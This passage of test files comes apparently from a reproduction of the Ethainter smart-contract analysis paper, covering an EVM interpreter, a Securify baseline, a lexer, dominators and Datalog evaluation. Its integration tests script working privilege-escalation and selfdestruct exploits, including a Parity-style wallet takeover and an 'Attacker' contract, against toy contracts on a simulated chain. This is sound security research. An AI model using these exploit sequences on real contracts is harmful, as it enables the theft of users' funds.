        assert run_expr([Push(5), Op("ISZERO")]) == 0


class TestBitwise:
    @given(uint, uint)
    @settings(max_examples=60)
    def test_and_or_xor(self, a, b):
        assert run_expr([Push(b), Push(a), Op("AND")]) == a & b
        assert run_expr([Push(b), Push(a), Op("OR")]) == a | b
        assert run_expr([Push(b), Push(a), Op("XOR")]) == a ^ b

    @given(uint)
    @settings(max_examples=40)
    def test_not(self, a):
        assert run_expr([Push(a), Op("NOT")]) == WORD ^ a

    @given(st.integers(0, 300), uint)
    @settings(max_examples=40)
    def test_shl_shr(self, shift, value):
        expected_shl = (value << shift) & WORD if shift < 256 else 0
        expected_shr = value >> shift if shift < 256 else 0
        assert run_expr([Push(value), Push(shift), Op("SHL")]) == expected_shl
        assert run_expr([Push(value), Push(shift), Op("SHR")]) == expected_shr

    def test_sar_negative(self):
        minus_one = WORD
        assert run_expr([Push(minus_one), Push(5), Op("SAR")]) == WORD

    @given(st.integers(0, 40), uint)
    @settings(max_examples=40)
    def test_byte(self, index, value):
        expected = 0 if index >= 32 else (value >> (8 * (31 - index))) & 0xFF
        assert run_expr([Push(value), Push(index), Op("BYTE")]) == expected


class TestStackOps:
    def test_dup_and_swap(self):
        assert run_expr([Push(1), Push(2), Op("DUP2")]) == 1
        assert run_expr([Push(1), Push(2), Op("SWAP1")]) == 1

    def test_pop(self):
        assert run_expr([Push(9), Push(5), Op("POP")]) == 9

    def test_stack_underflow_fails(self):
        result, _ = run_code([Op("ADD"), Op("STOP")])
        assert not result.success
        assert "underflow" in result.error


class TestMemory:
    def test_mstore_mload_roundtrip(self):
        assert run_expr([Push(0xDEAD), Push(64), Op("MSTORE"), Push(64), Op("MLOAD")]) == 0xDEAD

    def test_mstore8(self):
        value = run_expr(
            [Push(0xABCD), Push(0), Op("MSTORE8"), Push(0), Op("MLOAD")]
        )
        assert value >> 248 == 0xCD  # low byte stored at offset 0

    def test_msize_expands_by_words(self):
        assert run_expr([Push(1), Push(33), Op("MSTORE"), Op("MSIZE")]) == 96

    def test_sha3(self):
        expected = keccak_int((0x42).to_bytes(32, "big"))
        assert (
            run_expr([Push(0x42), Push(0), Op("MSTORE"), Push(32), Push(0), Op("SHA3")])
            == expected
        )


class TestStorage:
    def test_sstore_sload(self):
        items = [Push(7), Push(3), Op("SSTORE"), Push(3), Op("SLOAD")]
        assert run_expr(items) == 7

    def test_sload_default_zero(self):
        assert run_expr([Push(99), Op("SLOAD")]) == 0

    def test_zero_store_deletes(self):
        _, state = run_code(
            [Push(5), Push(1), Op("SSTORE"), Push(0), Push(1), Op("SSTORE"), Op("STOP")],
            address=0xC0DE,
        )
        assert state.account(0xC0DE).storage == {}


class TestEnvironment:
    def test_caller_address_callvalue(self):
        assert run_expr([Op("CALLER")]) == 0xCA11
        assert run_expr([Op("ADDRESS")]) == 0xC0DE

    def test_callvalue(self):
        result, _ = run_code(
            [Op("CALLVALUE"), Push(0), Op("MSTORE"), Push(32), Push(0), Op("RETURN")],
            value=123,
        )
        assert int.from_bytes(result.return_data, "big") == 123

    def test_calldataload_and_size(self):
        data = (0xBEEF).to_bytes(32, "big") + b"\x01"
        result, _ = run_code(
            [Push(0), Op("CALLDATALOAD"), Push(0), Op("MSTORE"), Push(32), Push(0), Op("RETURN")],
            calldata=data,
        )
        assert int.from_bytes(result.return_data, "big") == 0xBEEF

    def test_calldataload_past_end_zero_padded(self):
        result, _ = run_code(
            [Push(100), Op("CALLDATALOAD"), Push(0), Op("MSTORE"), Push(32), Push(0), Op("RETURN")],
            calldata=b"\x01",
        )
        assert int.from_bytes(result.return_data, "big") == 0

    def test_calldatacopy(self):
        result, _ = run_code(
            parse_asm("PUSH 32\nPUSH 0\nPUSH 0\nCALLDATACOPY\nPUSH 0\nMLOAD\nPUSH 0\nMSTORE\nPUSH 32\nPUSH 0\nRETURN"),
            calldata=(0x77).to_bytes(32, "big"),
        )
        assert int.from_bytes(result.return_data, "big") == 0x77


class TestControlFlow:
    def test_jump_to_jumpdest(self):
        items = parse_asm("@target\nJUMP\nPUSH 0\nPUSH 0\nREVERT\ntarget:\nSTOP")
        result, _ = run_code(items)
        assert result.success

    def test_jump_to_non_jumpdest_fails(self):
        result, _ = run_code([Push(1), Op("JUMP"), Op("STOP")])
        assert not result.success
        assert "jump" in result.error.lower()

    def test_jumpi_taken_and_not_taken(self):
        taken = parse_asm("PUSH 1\n@t\nJUMPI\nPUSH 0\nPUSH 0\nREVERT\nt:\nSTOP")
        result, _ = run_code(taken)
        assert result.success
        not_taken = parse_asm("PUSH 0\n@t\nJUMPI\nSTOP\nt:\nPUSH 0\nPUSH 0\nREVERT")
        result, _ = run_code(not_taken)
        assert result.success

    def test_pc_opcode(self):
        assert run_expr([Push(0), Op("POP"), Op("PC")]) == 3

    def test_running_off_end_is_implicit_stop(self):
        result, _ = run_code([Push(1)])
        assert result.success

    def test_infinite_loop_runs_out_of_gas(self):
        items = parse_asm("loop:\n@loop\nJUMP")
        result, _ = run_code(items)
        assert not result.success
        assert "gas" in result.error


class TestRevert:
    def test_revert_returns_data_and_rolls_back(self):
        state = WorldState()
        items = parse_asm(
            "PUSH 5\nPUSH 1\nSSTORE\nPUSH 0xEE\nPUSH 0\nMSTORE\nPUSH 32\nPUSH 0\nREVERT"
        )
        result, state = run_code(items, state=state)
        assert not result.success
        assert result.error == "revert"
        assert int.from_bytes(result.return_data, "big") == 0xEE
        assert state.get_storage(0xC0DE, 1) == 0

    def test_invalid_opcode_halts(self):
        result, _ = run_code([Op("INVALID")])
        assert not result.success


class TestSelfdestruct:
    def test_selfdestruct_transfers_balance_and_traces(self):
        state = WorldState()
        state.set_balance(0xC0DE, 1000)
        result, state = run_code([Push(0xBEEF), Op("SELFDESTRUCT")], state=state)
        assert result.success
        assert result.executed("SELFDESTRUCT")
        assert 0xC0DE in result.destroyed
        assert state.get_balance(0xBEEF) == 1000
        assert state.is_destroyed(0xC0DE)

    def test_selfdestruct_reverted_if_outer_reverts(self):
        # A nested call that selfdestructs, then the outer frame reverts:
        # destruction must be undone.
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        victim = chain.deploy(0xA, init_code_for(assemble([Op("CALLER"), Op("SELFDESTRUCT")])))
        victim_address = victim.contract_address
        # Outer: CALL victim, then REVERT.
        outer_items = parse_asm(
            """
PUSH 0
PUSH 0
PUSH 0
PUSH 0
PUSH 0
PUSH %d
GAS
CALL
POP
PUSH 0
PUSH 0
REVERT
"""
            % victim_address
        )
        outer = chain.deploy(0xA, init_code_for(assemble(outer_items)))
        receipt = chain.transact(0xA, outer.contract_address)
        assert not receipt.success
        assert not chain.state.is_destroyed(victim_address)


class TestCalls:
    def _deploy_echo(self, chain):
        """Contract returning CALLER as one word."""
        runtime = assemble(
            [Op("CALLER"), Push(0), Op("MSTORE"), Push(32), Push(0), Op("RETURN")]
        )
        receipt = chain.deploy(0xA, init_code_for(runtime))
        return receipt.contract_address

    def test_call_passes_caller(self):
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        echo = self._deploy_echo(chain)
        caller_items = parse_asm(
            """
PUSH 32
PUSH 0
PUSH 0
PUSH 0
PUSH 0
PUSH %d
GAS
CALL
POP
PUSH 32
PUSH 0
RETURN
"""
            % echo
        )
        proxy = chain.deploy(0xA, init_code_for(assemble(caller_items))).contract_address
        result = chain.call(0xB, proxy)
        assert int.from_bytes(result.return_data, "big") == proxy  # echo sees proxy

    def test_delegatecall_preserves_caller_and_address(self):
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        echo = self._deploy_echo(chain)
        items = parse_asm(
            """
PUSH 32
PUSH 0
PUSH 0
PUSH 0
PUSH %d
GAS
DELEGATECALL
POP
PUSH 32
PUSH 0
RETURN
"""
            % echo
        )
        proxy = chain.deploy(0xA, init_code_for(assemble(items))).contract_address
        result = chain.call(0xB, proxy)
        assert int.from_bytes(result.return_data, "big") == 0xB  # original caller

    def test_staticcall_blocks_writes(self):
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        writer = chain.deploy(
            0xA, init_code_for(assemble([Push(1), Push(0), Op("SSTORE"), Op("STOP")]))
        ).contract_address
        items = parse_asm(
            """
PUSH 0
PUSH 0
PUSH 0
PUSH 0
PUSH %d
GAS
STATICCALL
PUSH 0
MSTORE
PUSH 32
PUSH 0
RETURN
"""
            % writer
        )
        proxy = chain.deploy(0xA, init_code_for(assemble(items))).contract_address
        result = chain.call(0xB, proxy)
        assert int.from_bytes(result.return_data, "big") == 0  # inner call failed
        assert chain.state.get_storage(writer, 0) == 0

    def test_call_output_not_zero_padded_on_short_return(self):
        """Short return data leaves prior memory intact — the §3.5 bug's
        load-bearing VM behaviour."""
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        empty = 0x5117  # address with no code: call succeeds, returns b""
        items = parse_asm(
            """
PUSH 0xABCD
PUSH 0
MSTORE
PUSH 32
PUSH 0
PUSH 0
PUSH 0
PUSH %d
GAS
STATICCALL
POP
PUSH 32
PUSH 0
RETURN
"""
            % empty
        )
        proxy = chain.deploy(0xA, init_code_for(assemble(items))).contract_address
        result = chain.call(0xB, proxy)
        assert int.from_bytes(result.return_data, "big") == 0xABCD  # stale!

    def test_failed_inner_call_rolls_back_inner_state_only(self):
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        reverter = chain.deploy(
            0xA,
            init_code_for(
                assemble([Push(1), Push(0), Op("SSTORE"), Push(0), Push(0), Op("REVERT")])
            ),
        ).contract_address
        items = parse_asm(
            """
PUSH 7
PUSH 0
SSTORE
PUSH 0
PUSH 0
PUSH 0
PUSH 0
PUSH 0
PUSH %d
GAS
CALL
POP
STOP
"""
            % reverter
        )
        outer = chain.deploy(0xA, init_code_for(assemble(items))).contract_address
        receipt = chain.transact(0xB, outer)
        assert receipt.success
        assert chain.state.get_storage(outer, 0) == 7  # outer write survives
        assert chain.state.get_storage(reverter, 0) == 0  # inner rolled back


class TestTrace:
    def test_trace_records_ops_in_order(self):
        result, _ = run_code([Push(1), Push(2), Op("ADD"), Op("STOP")])
        assert [entry.op for entry in result.trace] == ["PUSH1", "PUSH1", "ADD", "STOP"]

    def test_trace_depth_for_nested_call(self):
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        inner = chain.deploy(0xA, init_code_for(assemble([Op("STOP")]))).contract_address
        items = parse_asm(
            "PUSH 0\nPUSH 0\nPUSH 0\nPUSH 0\nPUSH 0\nPUSH %d\nGAS\nCALL\nPOP\nSTOP" % inner
        )
        outer = chain.deploy(0xA, init_code_for(assemble(items))).contract_address
        receipt = chain.transact(0xB, outer)
        depths = {entry.depth for entry in receipt.result.trace}
        assert depths == {0, 1}
