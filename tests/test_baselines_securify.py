"""Securify baseline: high flag rate, documented imprecision sources."""

from repro.baselines import SecurifyAnalysis
from repro.baselines.securify import MISSING_INPUT_VALIDATION, UNRESTRICTED_WRITE
from repro.minisol import compile_source


def analyze(source, name=None):
    return SecurifyAnalysis().analyze(compile_source(source, name).runtime)


class TestUnrestrictedWrite:
    def test_mapping_write_flagged(self, token_contract):
        """The paper's §6.2 example: balances[to] += value looks like an
        unrestricted write because mappings are just pointer arithmetic."""
        result = SecurifyAnalysis().analyze(token_contract.runtime)
        assert UNRESTRICTED_WRITE in result.patterns()

    def test_scalar_write_with_sender_check_clean(self):
        result = analyze(
            """
contract C {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public { require(msg.sender == owner); x = v; }
}
"""
        )
        assert UNRESTRICTED_WRITE not in result.patterns()

    def test_scalar_write_without_any_sender_check_flagged(self):
        result = analyze(
            "contract C { uint256 x; function f(uint256 v) public { x = v; } }"
        )
        assert UNRESTRICTED_WRITE in result.patterns()


class TestMissingInputValidation:
    def test_unvalidated_mapping_key_flagged(self):
        result = analyze(
            """
contract C {
    mapping(address => uint256) data;
    function put(address k, uint256 v) public { data[k] = v; }
}
"""
        )
        assert MISSING_INPUT_VALIDATION in result.patterns()

    def test_equality_validated_input_clean(self):
        result = analyze(
            """
contract C {
    mapping(address => uint256) data;
    address boss;
    constructor() { boss = msg.sender; }
    function put(address k) public {
        require(k == boss);
        data[k] = 1;
    }
}
"""
        )
        assert MISSING_INPUT_VALIDATION not in result.patterns()

    def test_range_check_not_understood(self, token_contract):
        """LT/GT checks don't count as validation — the imprecision the
        paper dissects."""
        result = SecurifyAnalysis().analyze(token_contract.runtime)
        assert MISSING_INPUT_VALIDATION in result.patterns()


class TestCharacter:
    def test_no_composite_reasoning_misses_nothing_but_overapproximates(
        self, victim_contract, safe_contract
    ):
        flagged_victim = SecurifyAnalysis().analyze(victim_contract.runtime)
        flagged_safe = SecurifyAnalysis().analyze(safe_contract.runtime)
        assert flagged_victim.flagged  # vulnerable contract flagged...
        # ...but so are plenty of safe mapping-using contracts (measured at
        # corpus level in the benchmarks).

    def test_violations_carry_locations(self, token_contract):
        result = SecurifyAnalysis().analyze(token_contract.runtime)
        assert all(v.pc >= 0 for v in result.violations)

    def test_junk_bytecode_reports_error(self):
        result = SecurifyAnalysis().analyze(b"\xfe" * 10)
        assert result.error == "" and not result.flagged or result.error

    def test_empty_contract_clean(self):
        result = analyze("contract C { function f() public { } }")
        assert not result.flagged
