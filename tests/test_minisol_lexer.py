"""MiniSol tokenizer."""

import pytest

from repro.minisol.lexer import LexError, tokenize


def kinds(source):
    return [(token.kind, token.text) for token in tokenize(source)[:-1]]


class TestBasics:
    def test_keywords_and_idents(self):
        tokens = kinds("contract Foo")
        assert tokens == [("keyword", "contract"), ("ident", "Foo")]

    def test_numbers_decimal_and_hex(self):
        assert kinds("42 0xFF") == [("number", "42"), ("number", "0xFF")]

    def test_string_literal(self):
        assert kinds('"transfer(address)"') == [("string", "transfer(address)")]

    def test_symbols_maximal_munch(self):
        assert [text for _, text in kinds("== = => >= > !")] == [
            "==", "=", "=>", ">=", ">", "!",
        ]

    def test_compound_assignment_ops(self):
        assert [text for _, text in kinds("+= -=")] == ["+=", "-="]

    def test_line_tracking(self):
        tokens = tokenize("a\nb\n\nc")
        assert [t.line for t in tokens[:-1]] == [1, 2, 4]

    def test_eof_token(self):
        assert tokenize("")[-1].kind == "eof"

    def test_underscore_is_ident(self):
        assert kinds("_")[0] == ("ident", "_")


class TestComments:
    def test_line_comment(self):
        assert kinds("a // comment here\nb") == [("ident", "a"), ("ident", "b")]

    def test_block_comment(self):
        assert kinds("a /* x\ny */ b") == [("ident", "a"), ("ident", "b")]

    def test_block_comment_line_count(self):
        tokens = tokenize("/* 1\n2\n3 */ x")
        assert tokens[0].line == 3

    def test_unterminated_block_comment(self):
        with pytest.raises(LexError):
            tokenize("/* never closed")


class TestErrors:
    def test_unknown_character(self):
        with pytest.raises(LexError) as exc:
            tokenize("a $ b")
        assert exc.value.line == 1

    def test_unterminated_string(self):
        with pytest.raises(LexError):
            tokenize('"oops')

    def test_newline_in_string(self):
        with pytest.raises(LexError):
            tokenize('"a\nb"')
