"""Whole-pipeline integration stories: compiler -> chain -> analysis -> kill.

Each test tells one of the paper's narratives end to end.
"""

import pytest

from repro import analyze_bytecode, compile_source
from repro.chain import Blockchain
from repro.kill import EthainterKill
from repro.minisol.abi import decode_word

DEPLOYER, USER, ATTACKER = 0xD00D, 0x900D, 0xBAD


@pytest.fixture
def chain():
    chain = Blockchain()
    for account in (DEPLOYER, USER, ATTACKER):
        chain.fund(account, 10**18)
    return chain


class TestDelegatecallForwarding:
    LIBRARY = """
contract Lib {
    uint256 value;
    function setValue(uint256 v) public { value = v; }
    function whoCalls() public returns (address) { return msg.sender; }
}
"""
    PROXY = """
contract Proxy {
    uint256 value;
    address lib;
    constructor(address l) { lib = l; }
    function set(uint256 v) public { delegatecall(lib, "setValue(uint256)", v); }
    function get() public returns (uint256) { return value; }
}
"""

    def test_delegatecall_writes_proxy_storage(self, chain):
        library = compile_source(self.LIBRARY)
        lib_address = chain.deploy(DEPLOYER, library.init_with_args()).contract_address
        proxy = compile_source(self.PROXY)
        proxy_address = chain.deploy(
            DEPLOYER, proxy.init_with_args(lib_address)
        ).contract_address
        chain.transact(USER, proxy_address, proxy.calldata("set", 777))
        # The write landed in the PROXY's storage, not the library's.
        assert chain.state.get_storage(proxy_address, 0) == 777
        assert chain.state.get_storage(lib_address, 0) == 0
        result = chain.call(USER, proxy_address, proxy.calldata("get"))
        assert decode_word(result.return_data) == 777


class TestParityShape:
    LIBRARY = """
contract WalletLibrary {
    address walletOwner;
    function initWallet(address newOwner) public { walletOwner = newOwner; }
    function kill(address to) public {
        require(msg.sender == walletOwner);
        selfdestruct(to);
    }
}
"""
    PROXY = """
contract Wallet {
    address walletOwner;
    address lib;
    constructor(address l) { lib = l; }
    function init(address o) public { delegatecall(lib, "initWallet(address)", o); }
    function close(address to) public { delegatecall(lib, "kill(address)", to); }
}
"""

    def test_library_statically_flagged(self):
        result = analyze_bytecode(compile_source(self.LIBRARY).runtime)
        kinds = {w.kind for w in result.warnings}
        assert "tainted-owner-variable" in kinds
        assert "accessible-selfdestruct" in kinds
        assert "tainted-selfdestruct" in kinds

    def test_wallet_exploitable_through_proxy(self, chain):
        library = compile_source(self.LIBRARY)
        lib_address = chain.deploy(DEPLOYER, library.init_with_args()).contract_address
        proxy = compile_source(self.PROXY)
        wallet = chain.deploy(
            USER, proxy.init_with_args(lib_address), value=5000
        ).contract_address
        chain.transact(USER, wallet, proxy.calldata("init", USER))
        # Attacker re-initializes and destroys.
        chain.transact(ATTACKER, wallet, proxy.calldata("init", ATTACKER))
        assert chain.state.get_storage(wallet, 0) == ATTACKER
        before = chain.state.get_balance(ATTACKER)
        receipt = chain.transact(ATTACKER, wallet, proxy.calldata("close", ATTACKER))
        assert receipt.success
        assert chain.state.is_destroyed(wallet)
        assert chain.state.get_balance(ATTACKER) - before == 5000


class TestVictimStory:
    """The §2 illustration as one continuous narrative."""

    def test_full_story(self, chain, victim_contract):
        wallet = chain.deploy(
            DEPLOYER, victim_contract.init_with_args(), value=12345
        ).contract_address

        # 1. The naive attack fails.
        receipt = chain.transact(ATTACKER, wallet, victim_contract.calldata("kill"))
        assert not receipt.success

        # 2. Ethainter statically predicts the composite escalation.
        result = analyze_bytecode(victim_contract.runtime)
        assert result.has("accessible-selfdestruct")
        assert result.taint.writable_mappings == {0, 1}

        # 3. Ethainter-Kill executes it.
        killer = EthainterKill(chain)
        outcome = killer.attack(wallet, result)
        assert outcome.destroyed

        # 4. The destruction is verifiable in the trace and the state.
        assert chain.state.is_destroyed(wallet)
        assert chain.state.get_code(wallet) == b""

    def test_manual_exploit_matches_paper_sequence(self, chain, victim_contract):
        """The Attacker contract of §2, as literal transactions."""
        wallet = chain.deploy(
            DEPLOYER, victim_contract.init_with_args(), value=99
        ).contract_address
        calls = [
            victim_contract.calldata("registerSelf"),
            victim_contract.calldata("referAdmin", ATTACKER),
            victim_contract.calldata("changeOwner", ATTACKER),
            victim_contract.calldata("kill"),
        ]
        for data in calls:
            receipt = chain.transact(ATTACKER, wallet, data)
            assert receipt.success
        assert chain.state.is_destroyed(wallet)
        # selfdestruct(owner) paid out to the attacker (now the owner).
        assert chain.state.get_balance(ATTACKER) >= 10**18 + 99 - 1


class TestAttackerContract:
    """The paper's Attacker contract: the exploit as contract code."""

    ATTACKER_SOURCE = """
contract Attacker {
    address victim;
    constructor(address v) { victim = v; }
    function attack() public {
        call(victim, "registerSelf()");
        call(victim, "referAdmin(address)", this);
        call(victim, "changeOwner(address)", this);
        call(victim, "kill()");
    }
}
"""

    def test_contract_based_attack(self, chain, victim_contract):
        victim = chain.deploy(
            DEPLOYER, victim_contract.init_with_args(), value=4242
        ).contract_address
        attacker_contract = compile_source(self.ATTACKER_SOURCE)
        attacker_address = chain.deploy(
            ATTACKER, attacker_contract.init_with_args(victim)
        ).contract_address
        receipt = chain.transact(
            ATTACKER, attacker_address, attacker_contract.calldata("attack")
        )
        assert receipt.success
        assert chain.state.is_destroyed(victim)
        # The victim's balance flowed to the attacker CONTRACT (the owner
        # at kill time is the contract, not the EOA).
        assert chain.state.get_balance(attacker_address) == 4242
