"""Dominator computation on known graphs plus structural properties."""

from hypothesis import given, settings, strategies as st

from repro.ir.dominators import compute_dominators, dominance_frontier, immediate_dominators

DIAMOND = {"entry": ["a", "b"], "a": ["join"], "b": ["join"], "join": []}
CHAIN = {"a": ["b"], "b": ["c"], "c": []}
LOOP = {"entry": ["head"], "head": ["body", "exit"], "body": ["head"], "exit": []}
# Diamond whose join jumps back to the branch head — the shape where a
# naive RPO pass needs a second iteration to converge.
DIAMOND_BACK_EDGE = {
    "entry": ["head"],
    "head": ["a", "b"],
    "a": ["join"],
    "b": ["join"],
    "join": ["head", "exit"],
    "exit": [],
}


class TestDominators:
    def test_chain(self):
        dom = compute_dominators("a", CHAIN)
        assert dom["c"] == {"a", "b", "c"}

    def test_diamond_join_dominated_only_by_entry(self):
        dom = compute_dominators("entry", DIAMOND)
        assert dom["join"] == {"entry", "join"}
        assert dom["a"] == {"entry", "a"}

    def test_loop(self):
        dom = compute_dominators("entry", LOOP)
        assert dom["body"] == {"entry", "head", "body"}
        assert dom["exit"] == {"entry", "head", "exit"}

    def test_unreachable_nodes_omitted(self):
        graph = {"a": ["b"], "b": [], "island": ["b"]}
        dom = compute_dominators("a", graph)
        assert "island" not in dom

    def test_entry_only_dominates_itself_trivially(self):
        dom = compute_dominators("a", {"a": []})
        assert dom == {"a": {"a"}}

    def test_diamond_with_back_edge(self):
        dom = compute_dominators("entry", DIAMOND_BACK_EDGE)
        # The back edge join -> head must not let the arms dominate the
        # join, nor the join dominate the head.
        assert dom["head"] == {"entry", "head"}
        assert dom["join"] == {"entry", "head", "join"}
        assert dom["a"] == {"entry", "head", "a"}
        assert dom["exit"] == {"entry", "head", "join", "exit"}

    def test_unreachable_cluster_with_edge_into_reachable_region(self):
        # Unreachable blocks are omitted even when they have edges into
        # (and among) the reachable region.
        graph = {
            "entry": ["a"],
            "a": [],
            "dead1": ["dead2", "a"],
            "dead2": ["dead1"],
        }
        dom = compute_dominators("entry", graph)
        assert set(dom) == {"entry", "a"}
        # The dead predecessor must not disturb a's dominators.
        assert dom["a"] == {"entry", "a"}


class TestBackEdgeIdoms:
    def test_diamond_back_edge_idoms(self):
        idom = immediate_dominators("entry", DIAMOND_BACK_EDGE)
        assert idom == {
            "entry": None,
            "head": "entry",
            "a": "head",
            "b": "head",
            "join": "head",
            "exit": "join",
        }

    def test_unreachable_nodes_absent_from_idoms(self):
        graph = {"a": ["b"], "b": [], "island": ["b"]}
        idom = immediate_dominators("a", graph)
        assert set(idom) == {"a", "b"}
        assert idom["b"] == "a"


class TestImmediateDominators:
    def test_chain_idoms(self):
        idom = immediate_dominators("a", CHAIN)
        assert idom == {"a": None, "b": "a", "c": "b"}

    def test_diamond_idom_of_join_is_entry(self):
        idom = immediate_dominators("entry", DIAMOND)
        assert idom["join"] == "entry"


class TestDominanceFrontier:
    def test_diamond_frontier(self):
        frontier = dominance_frontier("entry", DIAMOND)
        assert frontier["a"] == {"join"}
        assert frontier["b"] == {"join"}
        assert frontier["entry"] == set()

    def test_loop_frontier_contains_head(self):
        frontier = dominance_frontier("entry", LOOP)
        assert "head" in frontier["body"] or "head" in frontier["head"]


@st.composite
def random_graph(draw):
    node_count = draw(st.integers(2, 12))
    nodes = ["n%d" % index for index in range(node_count)]
    successors = {}
    for position, node in enumerate(nodes):
        edges = draw(
            st.lists(st.sampled_from(nodes), max_size=3, unique=True)
        )
        successors[node] = edges
    # Keep everything reachable-ish: chain each node to the next.
    for position in range(node_count - 1):
        if nodes[position + 1] not in successors[nodes[position]]:
            successors[nodes[position]].append(nodes[position + 1])
    return successors


class TestProperties:
    @given(random_graph())
    @settings(max_examples=40, deadline=None)
    def test_entry_dominates_everything(self, graph):
        entry = "n0"
        dom = compute_dominators(entry, graph)
        for node, dominators in dom.items():
            assert entry in dominators
            assert node in dominators

    @given(random_graph())
    @settings(max_examples=40, deadline=None)
    def test_idom_is_strict_dominator(self, graph):
        entry = "n0"
        dom = compute_dominators(entry, graph)
        idom = immediate_dominators(entry, graph)
        for node, parent in idom.items():
            if parent is not None:
                assert parent in dom[node]
                assert parent != node

    @given(random_graph())
    @settings(max_examples=40, deadline=None)
    def test_dominator_sets_are_chains(self, graph):
        """Dominators of a node are totally ordered by dominance."""
        entry = "n0"
        dom = compute_dominators(entry, graph)
        for node, dominators in dom.items():
            ordered = sorted(dominators, key=lambda d: len(dom[d]))
            for outer, inner in zip(ordered, ordered[1:]):
                assert outer in dom[inner]
