"""Randomized equivalence: naive, semi-naive, compiled-plan, and columnar
evaluation must produce identical fixpoints on generated stratified
programs (and the same provenance coverage when tracking is on); DRed
incremental repair after random EDB add/retract batches must match a
from-scratch fixpoint over the mutated EDB."""

from hypothesis import given, settings, strategies as st

from repro.datalog import Atom, Database, Engine, Literal, Rule, Variable
from repro.datalog.terms import Filter

# EDB relations are never rule heads and negation only targets them, so
# every generated program is stratifiable by construction.
EDB_ARITY = {"E": 2, "N": 1, "F": 2}
IDB_ARITY = {"P": 2, "Q": 1, "R": 1, "S": 1}
ARITY = {**EDB_ARITY, **IDB_ARITY}
CONSTANTS = ["a", "b", "c", 1, 2]
VARIABLES = [Variable("v%d" % i) for i in range(4)]


def _is_string(value) -> bool:
    """Deterministic filter predicate used by generated rules."""
    return isinstance(value, str)


@st.composite
def _rule(draw):
    body = []
    bound = []
    for _ in range(draw(st.integers(1, 3))):
        relation = draw(st.sampled_from(sorted(ARITY)))
        args = []
        for _ in range(ARITY[relation]):
            if draw(st.booleans()):
                variable = draw(st.sampled_from(VARIABLES))
                args.append(variable)
                if variable not in bound:
                    bound.append(variable)
            else:
                args.append(draw(st.sampled_from(CONSTANTS)))
        body.append(Literal(Atom(relation, *args)))
    if bound and draw(st.booleans()):
        relation = draw(st.sampled_from(sorted(EDB_ARITY)))
        args = [
            draw(st.sampled_from(bound)) if draw(st.booleans())
            else draw(st.sampled_from(CONSTANTS))
            for _ in range(EDB_ARITY[relation])
        ]
        body.append(Literal(Atom(relation, *args), negated=True))
    if bound and draw(st.booleans()):
        body.append(
            Filter(_is_string, draw(st.sampled_from(bound)), name="is_string")
        )
    head_relation = draw(st.sampled_from(sorted(IDB_ARITY)))
    head_args = [
        draw(st.sampled_from(bound)) if bound and draw(st.booleans())
        else draw(st.sampled_from(CONSTANTS))
        for _ in range(IDB_ARITY[head_relation])
    ]
    return Rule(Atom(head_relation, *head_args), body)


@st.composite
def _program(draw):
    rules = draw(st.lists(_rule(), min_size=1, max_size=6))
    facts = {}
    for relation, arity in EDB_ARITY.items():
        facts[relation] = draw(
            st.lists(
                st.tuples(*[st.sampled_from(CONSTANTS)] * arity),
                max_size=8,
            )
        )
    return rules, facts


def _load(facts) -> Database:
    database = Database()
    for relation, rows in facts.items():
        database.add_all(relation, rows)
    return database


def _naive(rules, facts) -> Database:
    """Reference fixpoint: naive bottom-up iteration, no deltas."""
    database = _load(facts)
    engine = Engine(rules, use_plans=False)
    for stratum in engine.strata:
        changed = True
        while changed:
            changed = False
            for rule in stratum:
                for fact, _support in engine._derive(database, rule, None, {}):
                    if database.add(rule.head.relation, fact):
                        changed = True
    return database


def _semi_naive(rules, facts, use_plans, track=False, columnar=None):
    database = _load(facts)
    engine = Engine(
        rules, track_provenance=track, use_plans=use_plans, columnar=columnar
    )
    engine.evaluate(database)
    return database, engine


def _snapshot(database: Database):
    return {
        relation: database.facts(relation)
        for relation in sorted(set(database.relations()) | set(IDB_ARITY))
    }


class TestEngineEquivalence:
    @given(_program())
    @settings(max_examples=60, deadline=None)
    def test_four_evaluation_modes_agree(self, program):
        rules, facts = program
        reference = _snapshot(_naive(rules, facts))
        legacy_db, _ = _semi_naive(rules, facts, use_plans=False)
        compiled_db, _ = _semi_naive(rules, facts, use_plans=True)
        columnar_db, _ = _semi_naive(rules, facts, use_plans=True, columnar=True)
        assert _snapshot(legacy_db) == reference
        assert _snapshot(compiled_db) == reference
        assert _snapshot(columnar_db) == reference

    @given(_program())
    @settings(max_examples=40, deadline=None)
    def test_provenance_coverage_matches(self, program):
        """Every engine records a first derivation for exactly the derived
        (IDB) facts; trees may differ, coverage may not."""
        rules, facts = program
        legacy_db, legacy = _semi_naive(rules, facts, use_plans=False, track=True)
        compiled_db, compiled = _semi_naive(rules, facts, use_plans=True, track=True)
        _, columnar = _semi_naive(
            rules, facts, use_plans=True, track=True, columnar=True
        )
        assert set(legacy.provenance) == set(compiled.provenance)
        assert set(columnar.provenance) == set(compiled.provenance)
        derived = {
            (relation, fact)
            for relation in IDB_ARITY
            for fact in compiled_db.facts(relation)
        }
        assert set(compiled.provenance) == derived

    @given(_program())
    @settings(max_examples=30, deadline=None)
    def test_compiled_stats_count_all_derivations(self, program):
        """Per-rule derivation counts sum to the number of IDB facts."""
        rules, facts = program
        database, engine = _semi_naive(rules, facts, use_plans=True)
        derived = sum(
            len(database.facts(relation)) for relation in IDB_ARITY
        )
        assert engine.stats.derived_facts == derived
        assert sum(engine.stats.rule_derivations.values()) == derived


@st.composite
def _program_with_changes(draw):
    """A program plus 1-3 EDB change batches (additions and retraction
    picks; picks index into the then-current EDB at apply time)."""
    rules, facts = draw(_program())
    batches = []
    for _ in range(draw(st.integers(1, 3))):
        additions = {}
        for relation, arity in EDB_ARITY.items():
            additions[relation] = draw(
                st.lists(
                    st.tuples(*[st.sampled_from(CONSTANTS)] * arity),
                    max_size=4,
                )
            )
        picks = draw(st.lists(st.integers(0, 10_000), max_size=5))
        batches.append((additions, picks))
    return rules, facts, batches


class TestIncrementalEquivalence:
    """DRed repair after random EDB mutation must match a from-scratch
    fixpoint over the mutated EDB — fact-for-fact, and (when tracking)
    provenance-coverage-for-coverage."""

    def _run(self, program, columnar, track=False):
        rules, facts, batches = program
        edb = {
            relation: set(rows)
